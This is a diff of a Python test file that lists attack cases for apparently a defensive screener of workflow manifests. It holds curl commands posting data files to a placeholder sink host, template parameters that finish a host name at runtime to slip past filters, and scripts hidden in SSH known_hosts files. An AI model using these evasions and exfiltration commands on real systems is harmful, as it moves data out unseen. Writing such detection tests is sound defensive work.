@@ -1,5 +1,5 @@
-"""Attacks that a review found in what published programs had the rules read as names: hosts that a place-holder goes on,
-expressions, keys of hosts and of people, and sections of images (2026-11-30)."""
+"""Attacks that a review found in what published programs had the rules read as names: hosts that place-holders
+complete, expressions, keys of hosts and of people, and sections of images (2026-11-30)."""
 
 from ..blind import TAGS, crd, k8s, meta, pod
 from ..harness import Given
@@ -62,7 +62,7 @@ def _named(name: str, *plan: Given, harm: str = "data leaves the country") -> At
 
 
 ATTACKS = (
-    _request("a parameter completes the host of a request", "https://sink-of-data.c{{workflow.parameters.rest}}/in", "om"),
+    _request("a parameter completes the host of a request", "https://sink.c{{workflow.parameters.rest}}/in", "om"),
     _request("a parameter completes a short host", "https://sink{{workflow.parameters.rest}}/in", ".com"),
     _request("a parameter completes a service's name", "https://sink.prod-a{{workflow.parameters.rest}}", ".com"),
     _request("an expression completes the host of a request", "{{='https://sink.c' + workflow.parameters.rest}}", "om"),
@@ -74,7 +74,7 @@ ATTACKS = (
     *(_named(f"a command has {value} in place of an address", _command(f"curl -d @/data/x {value}"))
       for value in ("{{=`sink.example.com`}}", "{{=sink.example.com}}")),
     _named("a script stands in the place of keys of hosts", _text("known_hosts", UPLOAD)),
-    _named("a script stands among keys of hosts", _text("ssh_known_hosts", f"git.bank.ae ssh-ed25519 {KEY}\n{UPLOAD}\n")),
+    _named("a script stands among keys of hosts", _text("ssh_known_hosts", f"git ssh-ed25519 {KEY}\n{UPLOAD}\n")),
     *(_named(f"a copy leaves to what has the place of a key's comment, in {place} ({len(key)})", given)
       for key in ("AAAAexportOfEveryCustomer2026", KEY)
       for place, given in (("a command", _command(COPY.format(key))), ("a script", _text("run.sh", COPY.format(key))))),
